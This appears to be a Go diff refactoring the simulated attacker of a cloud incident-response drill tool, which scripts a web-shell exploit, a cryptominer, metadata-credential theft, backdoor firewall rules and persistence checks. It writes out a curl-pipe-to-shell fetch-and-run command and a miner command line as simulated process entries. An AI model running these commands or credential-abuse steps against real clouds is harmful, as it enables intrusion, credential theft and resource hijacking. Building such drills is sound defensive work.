@@ -3,108 +3,117 @@ package attacker
 import (
 	"context"
 	"fmt"
-	"strconv"
 
-	"github.com/aws/aws-sdk-go-v2/aws"
-	"github.com/aws/aws-sdk-go-v2/service/ec2"
-	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
-	"github.com/aws/aws-sdk-go-v2/service/iam"
-	"github.com/aws/aws-sdk-go-v2/service/s3"
-	"github.com/aws/aws-sdk-go-v2/service/sts"
-
+	"github.com/firedrill-ir/firedrill/cloudsim/simcloud"
 	"github.com/firedrill-ir/firedrill/cloudsim/world"
 )
 
-// Technique ids of the built-in catalog.
+// The techniques here are written once and registered per cloud (see the
+// per-cloud files): their cloud-specific parts are the cloud's simcloud.Host
+// (on-host effects through the cloud's own network and metadata models) and
+// the SDK calls a registration passes in.
+
 const (
-	ExploitWebApp    = "aws.ec2.exploit-web-app"
-	CryptoMiner      = "aws.ec2.start-cryptominer"
-	StealIMDSCreds   = "aws.ec2.steal-imds-credentials"
-	LaunchGPUs       = "aws.ec2.launch-gpu-instances"
-	CreateAccessKey  = "aws.iam.create-access-key"
-	KeepAccess       = "aws.keep-access"
 	correlationTag   = "firedrill:correlation-id"
 	attackerFlowName = "attacker"
+	// hostCaller attributes the random draws of the attacker's on-host
+	// effects (flows, metadata-service credentials) to the attacker's own
+	// streams.
+	hostCaller = "host/attacker"
 )
 
-// Builtin returns the built-in technique registry.
-func Builtin() *Registry {
-	ts := []*Technique{exploitWebApp(), cryptoMiner(), stealIMDSCredentials(), launchGPUInstances(),
-		createAccessKey(), keepAccess()}
-	ts = append(ts, azureTechniques()...)
-	ts = append(ts, gcpTechniques()...)
-	r, err := NewRegistry(ts...)
-	if err != nil {
-		panic(err) // a programming error in this file, caught by any test
-	}
-	return r
-}
-
-// exploitWebApp gains code execution on one instance of a scaling group
-// through its public web service, leaving an interactive web-shell session
-// (an inbound connection the responder's isolation must cut).
-func exploitWebApp() *Technique {
+// exploitWebApp gains code execution on a VM of a group through its public
+// web service, leaving an interactive web-shell session (an inbound
+// connection the responder's isolation must cut). defaultTarget is the VM
+// the cloud's scale-in removes first ("oldest" or "newest"), whose evidence
+// the scaling race is about.
+func exploitWebApp(cloud, id, defaultTarget string) *Technique {
 	return &Technique{
-		ID: ExploitWebApp, ATTACK: "T1190", Name: "Exploit Public-Facing Application",
+		ID: id, ATTACK: "T1190", Name: "Exploit Public-Facing Application", Cloud: cloud,
 		Params: []ParamSpec{
-			{Name: "group", Kind: KindString, Default: "web-asg", Doc: "scaling group whose instance is attacked"},
-			{Name: "target", Kind: KindString, Default: "oldest",
-				Doc: "oldest (first scale-in candidate), newest, or an instance id"},
+			{Name: "group", Kind: KindString, Doc: "VM group whose VM is attacked (default: the environment's web group)"},
+			{Name: "target", Kind: KindString, Default: defaultTarget,
+				Doc: "oldest, newest (" + defaultTarget + " is the first scale-in candidate), or a VM id"},
 			{Name: "port", Kind: KindInt, Default: "443", Doc: "the exposed service port"},
 			{Name: "vulnerability", Kind: KindString, Default: "CVE-2023-46604", Doc: "what is exploited, for the record"},
 		},
 		Run: func(ctx context.Context, env *Env, p Params) error {
-			w := env.World
-			w.LockAs(hostCaller)
-			id, err := pickTarget(w, p.String("group"), p.String("target"))
-			if err == nil {
-				_, err = w.OpenFlowLocked(id, world.FlowSpec{Direction: "ingress", Protocol: "tcp",
-					LocalPort: p.Int("port"), RemoteIP: env.SourceIP, Actor: attackerFlowName})
-			}
-			if err == nil {
-				inst := w.Instances[id]
-				inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
-					Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
-				env.State.Foothold = id
-			}
-			w.Unlock()
-			return env.Record(Action{Technique: ExploitWebApp, Operation: "http:exploit", Resource: id, Credential: "none",
+			vm, err := exploitLocked(env, cloud, p)
+			return env.Record(Action{Technique: id, Operation: "http:exploit", Resource: vm, Cloud: cloud, Credential: "none",
 				Detail: map[string]string{"port": p.String("port"), "vulnerability": p.String("vulnerability")}}, err)
 		},
 	}
 }
 
-// pickTarget chooses the attacked instance. "oldest" is the first instance
-// scale-in would terminate, which is what makes the drill's evidence race
-// real: the compromised box is the one autoscaling kills first.
-func pickTarget(w *world.World, group, target string) (string, error) {
+// exploitLocked picks the VM, opens the web-shell connection through the
+// cloud's network model and plants the shell; the attacker learns the VM's
+// place in the network from there.
+func exploitLocked(env *Env, cloud string, p Params) (string, error) {
+	t, err := env.Target(cloud)
+	if err != nil {
+		return "", err
+	}
+	h, err := host(cloud)
+	if err != nil {
+		return "", err
+	}
+	group := p.String("group")
+	if group == "" {
+		group = t.Prop("vm_group")
+	}
+	w := env.World
+	w.LockAs(hostCaller)
+	defer w.Unlock()
+	vm, err := pickTargetLocked(w, h, t.Site, group, p.String("target"))
+	if err != nil {
+		return vm, err
+	}
+	port := p.Int("port")
+	f, err := h.OpenFlowLocked(w, vm, world.FlowSpec{Direction: "ingress", Protocol: "tcp", LocalPort: port,
+		RemoteIP: env.SourceIP, Actor: attackerFlowName})
+	if err != nil {
+		return vm, err
+	}
+	inst := w.Instances[vm]
+	inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
+		Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
+	hold := env.State.In(cloud)
+	hold.Foothold, hold.Facts = vm, h.FactsLocked(w, vm, env.SourceIP, port)
+	env.State.Gain(&Path{ID: cloud + "/network_flow/web-shell", Kind: NetworkFlow, Cloud: cloud, Credential: "none", Resource: vm,
+		Description: fmt.Sprintf("web shell on %s through the exploited service on port %d", vm, port),
+		Probe:       (&flowPath{cloud: cloud, vm: vm, flow: f.ID}).probe})
+	return vm, nil
+}
+
+// pickTargetLocked chooses the attacked VM: the oldest or newest member of
+// the group, or a VM named by id.
+func pickTargetLocked(w *world.World, h simcloud.Host, site simcloud.Site, group, target string) (string, error) {
 	switch target {
 	case "oldest", "newest":
-		g := w.ASGs[group]
-		if g == nil {
-			return "", fmt.Errorf("scaling group %q does not exist", group)
+		members, err := h.GroupMembersLocked(w, site, group)
+		if err != nil {
+			return "", err
 		}
-		cands := w.ScaleInCandidatesLocked(g)
-		if len(cands) == 0 {
-			return "", fmt.Errorf("scaling group %q has no in-service instance", group)
+		if len(members) == 0 {
+			return "", fmt.Errorf("group %q has no running member", group)
 		}
 		if target == "oldest" {
-			return cands[0].InstanceID, nil
+			return members[0], nil
 		}
-		return cands[len(cands)-1].InstanceID, nil
+		return members[len(members)-1], nil
 	}
-	if _, ok := w.Instances[target]; !ok {
-		return "", fmt.Errorf("instance %q does not exist", target)
+	if _, ok := w.Instances[target]; !ok || simcloud.CloudOfLocked(w, target) != site.Cloud {
+		return "", fmt.Errorf("%s VM %q does not exist", site.Cloud, target)
 	}
 	return target, nil
 }
 
 // cryptoMiner starts xmrig on the foothold: CPU pinned near 100% and a
-// tracked outbound stratum connection to a pool domain, the two signals the
-// CPU alarm and GuardDuty's DNS finding key on.
-func cryptoMiner() *Technique {
+// stateful outbound stratum connection to a pool domain, the signals the
+// cloud's CPU alarm and its threat detector key on.
+func cryptoMiner(cloud, id string) *Technique {
 	return &Technique{
-		ID: CryptoMiner, ATTACK: "T1496", Name: "Resource Hijacking (cryptominer)",
+		ID: id, ATTACK: "T1496", Name: "Resource Hijacking (cryptominer)", Cloud: cloud,
 		Params: []ParamSpec{
 			{Name: "pool_domain", Kind: KindString, Default: "pool.minexmr.com"},
 			{Name: "pool_ip", Kind: KindString, Default: "192.0.2.77"},
@@ -113,198 +122,274 @@ func cryptoMiner() *Technique {
 			{Name: "process", Kind: KindString, Default: "xmrig"},
 		},
 		Run: func(ctx context.Context, env *Env, p Params) error {
-			env.State.Pool = PoolTarget{Domain: p.String("pool_domain"), IP: p.String("pool_ip"), Port: p.Int("pool_port")}
-			w := env.World
-			w.LockAs(hostCaller)
-			id := env.State.Foothold
-			inst, ok := w.Instances[id]
-			var err error
-			switch {
-			case id == "" || !ok:
-				err = fmt.Errorf("no foothold: the exploit step did not succeed")
-			case inst.State != world.StateRunning:
-				err = fmt.Errorf("foothold %s is %s", id, inst.State)
-			default:
-				now := w.Now()
-				inst.Processes = append(inst.Processes, world.Process{PID: 31415, User: "app",
-					Command: fmt.Sprintf("/tmp/.cache/%s -o %s:%d --donate-level 0 -k", p.String("process"),
-						env.State.Pool.Domain, env.State.Pool.Port), CPU: float64(p.Int("cpu"))})
-				w.SetCPULocked(inst, now, float64(p.Int("cpu")))
-				var f *world.Flow
-				f, err = w.OpenFlowLocked(id, poolFlowSpec(env))
-				if err == nil {
-					env.State.PoolFlow = f.ID
-				}
-			}
-			w.Unlock()
-			return env.Record(Action{Technique: CryptoMiner, Operation: "pool:connect", Resource: id, Credential: "host",
-				Detail: map[string]string{"pool": fmt.Sprintf("%s:%d", env.State.Pool.Domain, env.State.Pool.Port),
-					"process": p.String("process")}}, err)
+			pool := fmt.Sprintf("%s:%d", p.String("pool_domain"), p.Int("pool_port"))
+			vm := env.State.In(cloud).Foothold
+			err := startMinerLocked(env, cloud, vm, p, pool)
+			return env.Record(Action{Technique: id, Operation: "pool:connect", Resource: vm, Cloud: cloud, Credential: "host",
+				Detail: map[string]string{"pool": pool, "process": p.String("process")}}, err)
 		},
 	}
 }
 
-func poolFlowSpec(env *Env) world.FlowSpec {
-	return world.FlowSpec{Direction: "egress", Protocol: "tcp", RemoteIP: env.State.Pool.IP,
-		RemotePort: env.State.Pool.Port, Domain: env.State.Pool.Domain, Actor: attackerFlowName}
+// startMinerLocked runs the miner on vm and connects it to the pool. The
+// pool connection is an access path from the moment the attacker has a
+// foothold, even if it cannot connect yet: keep-access keeps trying.
+func startMinerLocked(env *Env, cloud, vm string, p Params, pool string) error {
+	h, err := host(cloud)
+	if err != nil {
+		return err
+	}
+	w := env.World
+	w.LockAs(hostCaller)
+	defer w.Unlock()
+	inst, ok := w.Instances[vm]
+	if vm == "" || !ok {
+		return fmt.Errorf("no foothold: the exploit step did not succeed")
+	}
+	fp := &flowPath{cloud: cloud, vm: vm, reconnect: true, detail: map[string]string{"pool": pool},
+		spec: world.FlowSpec{Direction: "egress", Protocol: "tcp", RemoteIP: p.String("pool_ip"),
+			RemotePort: p.Int("pool_port"), Domain: p.String("pool_domain"), Actor: attackerFlowName}}
+	env.State.Gain(&Path{ID: cloud + "/network_flow/pool", Kind: NetworkFlow, Cloud: cloud, Credential: "host", Resource: vm,
+		Description: "the miner's connection from " + vm + " to the pool " + pool, Probe: fp.probe})
+	if inst.State != world.StateRunning {
+		return fmt.Errorf("foothold %s is %s", vm, inst.State)
+	}
+	cpu := float64(p.Int("cpu"))
+	inst.Processes = append(inst.Processes, world.Process{PID: 31415, User: "app",
+		Command: fmt.Sprintf("/tmp/.cache/%s -o %s --donate-level 0 -k", p.String("process"), pool), CPU: cpu})
+	w.SetCPULocked(inst, w.Now(), cpu)
+	f, err := h.OpenFlowLocked(w, vm, fp.spec)
+	if err == nil {
+		fp.flow = f.ID
+	}
+	return err
 }
 
-// stealIMDSCredentials reads the instance role's credentials from the
-// metadata service on the foothold and immediately uses them from the
-// attacker's own address, the pattern GuardDuty's
-// InstanceCredentialExfiltration.OutsideAWS finding describes.
-func stealIMDSCredentials() *Technique {
+// flowPath is a connection the attacker keeps on a VM. A reconnecting one
+// (the miner's) is checked from the host every keep-access round, reopened
+// through the cloud's current network rules when down, and recorded; the
+// others (a web shell) and every flow at the final check are only looked
+// at.
+type flowPath struct {
+	cloud, vm, flow string
+	reconnect       bool
+	spec            world.FlowSpec
+	detail          map[string]string
+}
+
+func (f *flowPath) probe(_ context.Context, env *Env, r Round) Outcome {
+	h, err := host(f.cloud)
+	if err != nil {
+		return outcome(err)
+	}
+	w := env.World
+	w.LockAs(hostCaller)
+	up := false
+	for _, fl := range w.ActiveFlowsLocked(f.vm) {
+		if fl.ID == f.flow {
+			up = true
+		}
+	}
+	if !f.reconnect || r.Final {
+		w.Unlock()
+		if up {
+			return Outcome{Open: true}
+		}
+		return Outcome{Code: "FlowEnded"}
+	}
+	op := "pool:keepalive"
+	if !up {
+		op = "pool:reconnect"
+		var fl *world.Flow
+		if fl, err = h.OpenFlowLocked(w, f.vm, f.spec); err == nil {
+			f.flow = fl.ID
+		}
+	}
+	d := map[string]string{"flow": f.flow}
+	for k, v := range f.detail {
+		d[k] = v
+	}
+	w.Unlock()
+	return outcome(env.Record(Action{Technique: r.Technique, Operation: op, Resource: f.vm, Cloud: f.cloud, Credential: "host",
+		Detail: d}, err))
+}
+
+// stealSpec is how a cloud's metadata service hands out the VM identity's
+// credential and what the attacker does with it: Use is its first use from
+// the attacker's address (a "whoami" about the VM it came from), Probe the
+// stolen-credential path's probe.
+type stealSpec struct {
+	Operation, Path, Label, Description string
+	Detail                              map[string]string
+	Use                                 func(env *Env, ctx context.Context, technique, vm string, c *Credential) error
+	Probe                               func(c *Credential) Probe
+}
+
+// vmAttack is the compromise of a web VM as each cloud registers it: the
+// exploit, the miner, the theft of the VM identity's credential and the
+// keep-access loop, by id, with what differs between clouds as data.
+type vmAttack struct {
+	Cloud                             string
+	Exploit, Miner, Steal, KeepAccess string
+	FirstToScaleIn                    string // "oldest" or "newest": the VM whose evidence the scaling race is about
+	Metadata                          stealSpec
+	KeepAccessParams                  []ParamSpec
+}
+
+// registerVMAttack registers a cloud's VM compromise and the cloud's own
+// techniques.
+func registerVMAttack(a vmAttack, own ...*Technique) {
+	Register(append([]*Technique{exploitWebApp(a.Cloud, a.Exploit, a.FirstToScaleIn), cryptoMiner(a.Cloud, a.Miner),
+		stealHostCredential(a.Cloud, a.Steal, a.Metadata), keepAccess(a.Cloud, a.KeepAccess, a.KeepAccessParams...)}, own...)...)
+}
+
+// stealHostCredential reads the VM identity's credential from the
+// metadata service on the foothold and uses it at once from the attacker's
+// own address: the pattern each cloud's threat detection flags. The
+// credential outlives any change to the VM: only revoking its sessions,
+// disabling its principal or removing its grants takes its power away.
+func stealHostCredential(cloud, id string, s stealSpec) *Technique {
 	return &Technique{
-		ID: StealIMDSCreds, ATTACK: "T1552.005", Name: "Unsecured Credentials: Cloud Instance Metadata API",
+		ID: id, ATTACK: "T1552.005", Name: "Unsecured Credentials: Cloud Instance Metadata API", Cloud: cloud,
 		Run: func(ctx context.Context, env *Env, p Params) error {
-			w := env.World
-			w.LockAs(hostCaller)
-			id := env.State.Foothold
-			var s *world.Session
-			var err error
-			if id == "" {
-				err = fmt.Errorf("no foothold to read instance metadata from")
-			} else {
-				s, err = w.InstanceCredentialsLocked(id)
-			}
-			var arn string
-			if err == nil {
-				if r := w.Roles[s.Role]; r != nil {
-					arn = fmt.Sprintf("arn:aws:sts::%s:assumed-role/%s/%s", r.Account, r.Name, s.SessionName)
+			hold := env.State.In(cloud)
+			c, detail, err := stealLocked(env, cloud, hold.Foothold)
+			d := map[string]string{"path": s.Path}
+			for _, m := range []map[string]string{s.Detail, detail} {
+				for k, v := range m {
+					d[k] = v
 				}
-				env.State.Stolen = &Credentials{AccessKeyID: s.AccessKeyID, SecretAccessKey: s.Secret,
-					SessionToken: s.Token, Label: "stolen-session", Principal: arn, Expires: s.Expires}
 			}
-			w.Unlock()
-			d := map[string]string{"path": "/latest/meta-data/iam/security-credentials/"}
-			if s != nil {
-				d["access_key_id"], d["role"] = s.AccessKeyID, s.Role
-			}
-			if err := env.Record(Action{Technique: StealIMDSCreds, Operation: "imds:GetRoleCredentials", Resource: id,
+			if err := env.Record(Action{Technique: id, Operation: s.Operation, Resource: hold.Foothold, Cloud: cloud,
 				Credential: "host", Detail: d}, err); err != nil {
 				return err
 			}
-			_, err = callerIdentity(ctx, env, StealIMDSCreds, env.State.Stolen)
-			return err
+			c.Label = s.Label
+			hold.Hold(c)
+			env.State.Gain(&Path{ID: cloud + "/stolen_credential/" + s.Label, Kind: StolenCredential, Cloud: cloud,
+				Credential: s.Label, Resource: c.Principal, Description: s.Description + " of " + hold.Foothold, Probe: s.Probe(c)})
+			return s.Use(env, ctx, id, hold.Foothold, c)
 		},
 	}
 }
 
-// callerIdentity is the attacker's "whoami" with a set of credentials.
-func callerIdentity(ctx context.Context, env *Env, technique string, c *Credentials) (string, error) {
-	out, err := sts.NewFromConfig(env.AWSConfig(c, "")).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
-	arn := ""
-	if err == nil {
-		arn = aws.ToString(out.Arn)
+// stealLocked asks the foothold's metadata service for its identity's
+// credential.
+func stealLocked(env *Env, cloud, vm string) (*Credential, map[string]string, error) {
+	if vm == "" {
+		return nil, nil, fmt.Errorf("no foothold to query the metadata service from")
 	}
-	// AWS answers GetCallerIdentity even under an explicit deny, so its
-	// success proves the credentials exist, not that they grant anything;
-	// requires_permission lets scoring tell it from real access.
-	return arn, env.Record(Action{Technique: technique, Operation: "sts:GetCallerIdentity", Resource: arn,
-		Credential: c.Label, Detail: map[string]string{"access_key_id": c.AccessKeyID, "requires_permission": "false"}}, err)
+	h, err := host(cloud)
+	if err != nil {
+		return nil, nil, err
+	}
+	env.World.LockAs(hostCaller)
+	defer env.World.Unlock()
+	return h.CredentialLocked(env.World, vm)
 }
 
-// launchGPUInstances spends the victim's money: GPU instances in a region
-// the victim does not use, one RunInstances call each, tagged and named with
-// the run's correlation id.
-func launchGPUInstances() *Technique {
+// hasLiveChannel reports whether any attacker connection on the VM is still
+// up: with one, code on the VM can still hand the attacker fresh
+// credentials.
+func (e *Env) hasLiveChannel(vm string) bool {
+	w := e.World
+	w.LockAs(hostCaller)
+	defer w.Unlock()
+	for _, f := range w.ActiveFlowsLocked(vm) {
+		if f.Actor == attackerFlowName {
+			return true
+		}
+	}
+	return false
+}
+
+// planted is what a cloud's backdoor call planted: the rule (its resource
+// id and a name for people), the resource the call changed and the details
+// of the record; done says the call's failure was already recorded.
+type planted struct {
+	rule, what, resource string
+	detail               map[string]string
+	done                 bool
+}
+
+// backdoorRule uses the stolen credential to add a network rule letting the
+// attacker's address back in: a way in that survives the compromised VM
+// (T1562.007, Modify Cloud Firewall), held as a backdoor_rule path. plant
+// is the cloud's call.
+func backdoorRule(cloud, id, op string, params []ParamSpec,
+	plant func(ctx context.Context, env *Env, t *Target, hold *Holding, c *Credential, p Params) (planted, error)) *Technique {
 	return &Technique{
-		ID: LaunchGPUs, ATTACK: "T1578.002", Name: "Modify Cloud Compute Infrastructure: Create Cloud Instance",
-		Params: []ParamSpec{
-			{Name: "region", Kind: KindString, Default: "us-west-2"},
-			{Name: "instance_type", Kind: KindString, Default: "p3.2xlarge"},
-			{Name: "count", Kind: KindInt, Default: "3"},
-			{Name: "image", Kind: KindString, Default: "ami-0c2b8ca1dad447f8a"},
-		},
+		ID: id, ATTACK: "T1562.007", Name: "Impair Defenses: Disable or Modify Cloud Firewall", Cloud: cloud,
+		Params: append([]ParamSpec{{Name: "port", Kind: KindInt, Default: "22", Doc: "port opened to the attacker"}}, params...),
 		Run: func(ctx context.Context, env *Env, p Params) error {
-			c := env.State.Stolen
-			if c == nil {
-				return env.Record(Action{Technique: LaunchGPUs, Operation: "ec2:RunInstances"},
-					fmt.Errorf("no stolen credentials to launch with"))
+			hold := env.State.In(cloud)
+			c := hold.Credential(labelStolenToken)
+			t, terr := env.Target(cloud)
+			if c == nil || terr != nil {
+				return env.Record(Action{Technique: id, Operation: op, Cloud: cloud}, fmt.Errorf("no stolen token"))
 			}
-			region := p.String("region")
-			client := ec2.NewFromConfig(env.AWSConfig(c, region))
-			var firstErr error
-			for i := 1; i <= p.Int("count"); i++ {
-				name := fmt.Sprintf("fd-%s-worker-%d", env.ShortID(), i)
-				out, err := client.RunInstances(ctx, &ec2.RunInstancesInput{
-					ImageId: aws.String(p.String("image")), InstanceType: ec2types.InstanceType(p.String("instance_type")),
-					MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
-					TagSpecifications: []ec2types.TagSpecification{{ResourceType: ec2types.ResourceTypeInstance,
-						Tags: []ec2types.Tag{{Key: aws.String("Name"), Value: aws.String(name)},
-							{Key: aws.String(correlationTag), Value: aws.String(env.CorrelationID)}}}},
-				})
-				id := ""
-				if err == nil && len(out.Instances) > 0 {
-					id = aws.ToString(out.Instances[0].InstanceId)
-					if env.State.Launched == nil {
-						env.State.Launched = map[string][]string{}
-					}
-					env.State.Launched[region] = append(env.State.Launched[region], id)
-				}
-				if rerr := env.Record(Action{Technique: LaunchGPUs, Operation: "ec2:RunInstances", Resource: id,
-					Credential: c.Label, Detail: map[string]string{"region": region,
-						"instance_type": p.String("instance_type"), "name": name}}, err); rerr != nil && firstErr == nil {
-					firstErr = rerr
-				}
-			}
-			return firstErr
-		},
-	}
-}
-
-// createAccessKey plants a long-term key on an existing IAM user with the
-// stolen role session, so access survives the session being revoked.
-func createAccessKey() *Technique {
-	return &Technique{
-		ID: CreateAccessKey, ATTACK: "T1098.001", Name: "Account Manipulation: Additional Cloud Credentials",
-		Params: []ParamSpec{{Name: "user", Kind: KindString, Default: "ci-deploy"}},
-		Run: func(ctx context.Context, env *Env, p Params) error {
-			c := env.State.Stolen
-			if c == nil {
-				return env.Record(Action{Technique: CreateAccessKey, Operation: "iam:CreateAccessKey"},
-					fmt.Errorf("no stolen credentials"))
-			}
-			user := p.String("user")
-			out, err := iam.NewFromConfig(env.AWSConfig(c, "")).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(user)})
-			id := ""
-			if err == nil {
-				id = aws.ToString(out.AccessKey.AccessKeyId)
-				env.State.Persistence = &Credentials{AccessKeyID: id, SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey),
-					Label: "persistence-key", Principal: user}
-				env.State.PersistenceUser = user
-			}
-			if err := env.Record(Action{Technique: CreateAccessKey, Operation: "iam:CreateAccessKey", Resource: id,
-				Credential: c.Label, Detail: map[string]string{"user": user}}, err); err != nil {
+			res, err := plant(ctx, env, t, hold, c, p)
+			if res.done {
 				return err
 			}
-			_, err = callerIdentity(ctx, env, CreateAccessKey, env.State.Persistence)
-			return err
+			if err == nil {
+				env.plantedBackdoor(cloud, res.rule, res.what, p.Int("port"))
+			}
+			d := map[string]string{"port": p.String("port"), "source": env.SourceIP + "/32"}
+			for k, v := range res.detail {
+				d[k] = v
+			}
+			return env.Record(Action{Technique: id, Operation: op, Resource: res.resource, Cloud: cloud, Credential: c.Label, Detail: d}, err)
 		},
+	}
+}
+
+// launchedProbe looks at an instance the attacker launched, as its
+// workers reporting in would: open while it runs.
+func launchedProbe(id string) Probe {
+	return func(_ context.Context, env *Env, _ Round) Outcome {
+		w := env.World
+		w.LockAs(hostCaller)
+		defer w.Unlock()
+		if i := w.Instances[id]; i != nil && (i.State == world.StateRunning || i.State == world.StatePending) {
+			return Outcome{Open: true}
+		}
+		return Outcome{Code: "NotRunning"}
+	}
+}
+
+// backdoorProbe asks the cloud's network model whether a new connection
+// from the attacker's address would still reach port through the rule.
+func backdoorProbe(cloud, rule string, port int) Probe {
+	return func(_ context.Context, env *Env, _ Round) Outcome {
+		h, err := host(cloud)
+		if err != nil {
+			return outcome(err)
+		}
+		w := env.World
+		w.LockAs(hostCaller)
+		defer w.Unlock()
+		open, _, code := h.AdmitsLocked(w, rule, env.SourceIP, port)
+		return Outcome{Open: open, Code: code}
 	}
 }
 
 // keepAccess is the attacker coming back every few minutes until the drill
-// ends: is the pool connection still up (or can a new one be opened), does
-// the stolen session still work, does the planted key still work. Every
-// answer is an attack.action, so after containment the timeline shows
-// exactly what the responder did and did not cut.
-func keepAccess() *Technique {
+// ends and trying every access path it holds in the cloud. Every answer a
+// path records is an attack.action, so after containment the timeline
+// shows exactly what the responder did and did not cut. extra are the
+// parameters the cloud's probes read.
+func keepAccess(cloud, id string, extra ...ParamSpec) *Technique {
 	return &Technique{
-		ID: KeepAccess, ATTACK: "T1078.004", Name: "Valid Accounts: Cloud Accounts",
-		Params: []ParamSpec{
-			{Name: "every", Kind: KindDuration, Default: "5m"},
-			{Name: "gpu_region", Kind: KindString, Default: "us-west-2"},
-			{Name: "instance_type", Kind: KindString, Default: "p3.2xlarge"},
-			{Name: "image", Kind: KindString, Default: "ami-0c2b8ca1dad447f8a"},
-		},
+		ID: id, ATTACK: "T1078.004", Name: "Valid Accounts: Cloud Accounts", Cloud: cloud, KeepsAccess: true,
+		Params: append([]ParamSpec{{Name: "every", Kind: KindDuration, Default: "5m"}}, extra...),
 		Run: func(ctx context.Context, env *Env, p Params) error {
 			every := p.Duration("every")
 			if every <= 0 {
 				return fmt.Errorf("keep-access: every must be positive")
 			}
 			for {
-				env.Probe(ctx, p)
+				env.ProbePaths(ctx, cloud, Round{Technique: id, Params: p})
 				if env.End.IsZero() || !env.Clock.Now().Add(every).Before(env.End) {
 					return nil
 				}
@@ -316,96 +401,40 @@ func keepAccess() *Technique {
 	}
 }
 
-// Probe performs one round of the attacker's access checks (see keepAccess).
-// Failures are recorded, not returned: a denied call is the answer sought.
-func (e *Env) Probe(ctx context.Context, p Params) {
-	e.probePool()
-	if c := e.State.Stolen; c != nil {
-		_, _ = callerIdentity(ctx, e, KeepAccess, c)
-		cl := ec2.NewFromConfig(e.AWSConfig(c, ""))
-		_, err := cl.DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
-		_ = e.Record(Action{Technique: KeepAccess, Operation: "ec2:DescribeInstances", Credential: c.Label,
-			Detail: map[string]string{"region": e.Region}}, err)
-		region := p.String("gpu_region")
-		_, err = ec2.NewFromConfig(e.AWSConfig(c, region)).RunInstances(ctx, &ec2.RunInstancesInput{
-			DryRun: aws.Bool(true), ImageId: aws.String(p.String("image")),
-			InstanceType: ec2types.InstanceType(p.String("instance_type")), MinCount: aws.Int32(1), MaxCount: aws.Int32(1)})
-		_ = e.Record(Action{Technique: KeepAccess, Operation: "ec2:RunInstances", Credential: c.Label,
-			Detail: map[string]string{"region": region, "dry_run": "true"}}, err)
+// FinalCheck tries every path the attacker holds in a cloud one last time,
+// as the cloud's keep-access technique would with its defaults but with
+// each probe's final form, and reports them: the drill's containment check.
+func (e *Env) FinalCheck(ctx context.Context, cloud string) []Report {
+	r := Round{Final: true}
+	if t, ok := Builtin().KeepAccess(cloud); ok {
+		r.Technique, r.Params = t.ID, t.Resolve(nil)
 	}
-	if c := e.State.Persistence; c != nil {
-		_, _ = callerIdentity(ctx, e, KeepAccess, c)
-		_, err := s3.NewFromConfig(e.AWSConfig(c, ""), func(o *s3.Options) { o.UsePathStyle = true }).
-			ListBuckets(ctx, &s3.ListBucketsInput{})
-		_ = e.Record(Action{Technique: KeepAccess, Operation: "s3:ListBuckets", Credential: c.Label}, err)
-	}
+	e.ProbePaths(ctx, cloud, r)
+	return e.State.Reports(cloud)
 }
 
-// probePool checks the miner's pool connection from the host side: still up,
-// or can a new one be opened through whatever security groups now apply.
-func (e *Env) probePool() {
-	if e.State.Pool.IP == "" || e.State.Foothold == "" {
-		return
-	}
-	w := e.World
-	w.LockAs(hostCaller)
-	id := e.State.Foothold
-	up := false
-	for _, f := range w.ActiveFlowsLocked(id) {
-		if f.ID == e.State.PoolFlow {
-			up = true
-		}
-	}
-	op := "pool:keepalive"
-	var err error
-	if !up {
-		op = "pool:reconnect"
-		var f *world.Flow
-		f, err = w.OpenFlowLocked(id, poolFlowSpec(e))
-		if err == nil {
-			e.State.PoolFlow = f.ID
-		}
-	}
-	flow := e.State.PoolFlow
-	w.Unlock()
-	_ = e.Record(Action{Technique: KeepAccess, Operation: op, Resource: id, Credential: "host",
-		Detail: map[string]string{"flow": flow, "pool": e.State.Pool.Domain + ":" + strconv.Itoa(e.State.Pool.Port)}}, err)
-}
-
-// CheckCredentials tries every credential the attacker holds with a call
-// that needs a permission it had (sts:GetCallerIdentity would not do: AWS
-// answers it even under an explicit deny, so a revoked session still
-// "works" for it) and reports which still work. The runner's final
-// containment check uses it; each call is also an attack.action.
-func (e *Env) CheckCredentials(ctx context.Context) (stolenValid, persistenceValid int) {
-	if c := e.State.Stolen; c != nil {
-		_, err := ec2.NewFromConfig(e.AWSConfig(c, "")).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
-		if e.Record(Action{Technique: KeepAccess, Operation: "ec2:DescribeInstances", Credential: c.Label,
-			Detail: map[string]string{"region": e.Region, "check": "final"}}, err) == nil {
-			stolenValid++
-		}
-	}
-	if c := e.State.Persistence; c != nil {
-		_, err := s3.NewFromConfig(e.AWSConfig(c, ""), func(o *s3.Options) { o.UsePathStyle = true }).
-			ListBuckets(ctx, &s3.ListBucketsInput{})
-		if e.Record(Action{Technique: KeepAccess, Operation: "s3:ListBuckets", Credential: c.Label,
-			Detail: map[string]string{"check": "final"}}, err) == nil {
-			persistenceValid++
-		}
-	}
-	return stolenValid, persistenceValid
-}
-
-// ActiveFlows counts the attacker's connections still up on any instance.
-func (e *Env) ActiveFlows() (n int, ids []string) {
+// ActiveFlowsIn counts the attacker's connections still up in one cloud.
+func (e *Env) ActiveFlowsIn(cloud string) (n int, ids []string) {
 	w := e.World
 	w.LockAs(hostCaller)
 	defer w.Unlock()
 	for _, f := range w.Flows {
-		if f.Actor == attackerFlowName && f.Active() {
+		if f.Actor == attackerFlowName && f.Active() && simcloud.CloudOfLocked(w, f.Instance) == cloud {
 			n++
 			ids = append(ids, f.ID)
 		}
 	}
 	return n, ids
+}
+
+// finalDetail marks the calls of the final check.
+func finalDetail(r Round, d map[string]string) map[string]string {
+	if !r.Final {
+		return d
+	}
+	out := map[string]string{"check": "final"}
+	for k, v := range d {
+		out[k] = v
+	}
+	return out
 }
